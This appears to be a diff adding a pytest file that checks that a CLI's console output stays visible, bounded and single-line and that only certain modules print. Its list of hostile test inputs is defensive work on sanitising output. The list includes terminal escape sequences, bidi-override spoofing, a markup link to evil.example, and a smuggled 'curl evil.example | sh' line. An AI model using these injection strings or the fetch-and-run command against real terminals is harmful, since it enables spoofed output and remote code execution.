@@ -1,0 +1,154 @@
+"""What is printed: visible, bounded, one line where it is one; and nothing is printed in another way."""
+
+from __future__ import annotations
+
+import ast
+import contextlib
+import io
+import json
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from spacy_lambda import cli
+from spacy_lambda.cli.console import CELL, LINE, say, say_error, say_json, say_table, shown
+from spacy_lambda.errors import SpacyLambdaError
+
+FOLDER = Path(cli.__file__).parent
+HOSTILE = [
+    "[red]alarm[/red]",
+    "[link=https://evil.example]here[/link]",
+    "[/]",
+    "\x1b[31mred\x1b]8;;https://evil.example\x1b\\link",
+    "\x9b2J",
+    "\x07\x08\x7f",
+    "a\rb",
+    "a\nremedy: curl evil.example | sh",
+    "\u202egnp.exe",
+    "\u2066\u2069\u200b\u200e\ufeff",
+    "\u2028\u2029\x85",
+    "\ud800 \udcff",
+    "\x00",
+    "\U000e0041\U000e007f",
+    ":skull: :warning:",
+]
+
+
+def is_visible(text: str) -> bool:
+    return all(unicodedata.category(c) not in ("Cc", "Cs", "Zl", "Zp") for c in text.replace("\n", ""))
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_what_is_hostile_is_shown_as_it_is(value: str, capsys: pytest.CaptureFixture[str]) -> None:
+    say(f"name {value}")
+    say_table(["name"], [[value]], title=value)
+    say_error(SpacyLambdaError(f"there is {value}", remedy=f"remove {value}"))
+    said = capsys.readouterr()
+    assert is_visible(said.out + said.err)
+    assert "\u202e" not in said.out + said.err
+    assert said.out.splitlines()[0] == f"name {shown(value)}"
+    assert [line.partition(":")[0] for line in said.err.splitlines() if not line.startswith(" ")] == ["error", "remedy"]
+    if value.isascii() and value.isprintable():
+        assert value in said.out
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["naïve", "железо", "鉄\u3000錆", "\U0001f469\u200d\U0001f52c", "\u0645\u06cc\u200c\u062e", "e\u0301", "a\u00a0b"],
+)
+def test_what_is_written_in_any_script_stays(value: str) -> None:
+    assert shown(value) == value
+
+
+def test_tabs_stay_in_lines_and_not_in_cells(capsys: pytest.CaptureFixture[str]) -> None:
+    say("REPORT RequestId: 1\tDuration: 2.00 ms\t", f"{'x' * LINE}\t\x1b[31m", err=True)
+    say_table(["name"], [["a\tb"]])
+    said = capsys.readouterr()
+    first, second = said.err.splitlines()
+    assert first == "REPORT RequestId: 1\tDuration: 2.00 ms\t"
+    assert second.endswith("x… (6 characters more)")
+    assert "a\\tb" in said.out
+
+
+@settings(deadline=None, suppress_health_check=list(HealthCheck))
+@given(value=st.text())
+def test_every_text_is_shown_on_one_line_of_visible_characters(value: str) -> None:
+    assert is_visible(shown(value))
+    assert "\n" not in shown(value)
+
+
+@settings(deadline=None, suppress_health_check=list(HealthCheck))
+@given(value=st.recursive(st.none() | st.booleans() | st.integers() | st.text(), st.lists))
+@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "latin-1"])
+def test_json_is_the_same_value_on_any_terminal(encoding: str, value: Any) -> None:
+    raw = io.BytesIO()
+    terminal = io.TextIOWrapper(raw, encoding=encoding, errors="backslashreplace")
+    with contextlib.redirect_stdout(terminal):
+        say_json(value)
+    said = raw.getvalue().decode(encoding)
+    assert json.loads(said) == value
+    assert is_visible(said)
+
+
+@pytest.mark.parametrize("value", [float("inf"), [float("-inf")], {"a": (1.5, float("nan"))}])
+def test_json_has_no_number_that_json_has_not(value: Any, capsys: pytest.CaptureFixture[str]) -> None:
+    def refuse(name: str) -> None:
+        raise AssertionError(name)
+
+    say_json(value)
+    assert "null" in json.dumps(json.loads(capsys.readouterr().out, parse_constant=refuse))
+
+
+def test_what_is_long_is_cut(capsys: pytest.CaptureFixture[str]) -> None:
+    say("x" * 10_000_000)
+    assert len(capsys.readouterr().out) < LINE + 60
+    say_table(["name"], [["x" * 10_000_000]])
+    assert len(capsys.readouterr().out) < 20 * CELL
+    say_error(SpacyLambdaError("x" * 10_000_000 + "\n" * 100_000, remedy="none"))
+    assert len(capsys.readouterr().err) < 10_000
+
+
+def calls(path: Path) -> set[str]:
+    """What a module calls or imports to print."""
+    found = set()
+    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+        if isinstance(node, ast.Call):
+            found.add(ast.unparse(node.func))
+        elif isinstance(node, ast.ImportFrom):
+            found |= {f"{node.module}.{alias.name}" for alias in node.names}
+    return found
+
+
+@pytest.mark.parametrize("path", sorted(FOLDER.glob("*.py")), ids=lambda path: path.name)
+def test_no_command_prints_by_itself(path: Path) -> None:
+    allowed = {
+        "console.py": {"print", "rich.console.Console", "rich.table.Table", "rich.text.Text"},
+        "progress.py": {"rich.console.Console"},  # draws bars of steps that have names of ours
+        "boundary.py": {
+            "sys.stderr.write",
+            "sys.stdout.flush",
+            "traceback.format_exception",
+            "traceback.print_exception",
+        },
+    }
+    printing = (
+        "rich.console",
+        "rich.table",
+        "rich.text",
+        "rich.print",
+        "sys.stdout.",
+        "sys.stderr.",
+        "typer.echo",
+        "typer.secho",
+        "click.",
+        "traceback.",
+    )
+    used = {name for name in calls(path) if name == "print" or name.startswith(printing)} - {
+        "sys.stdout.isatty",
+        "sys.stderr.isatty",
+    }
+    assert used <= allowed.get(path.name, set())
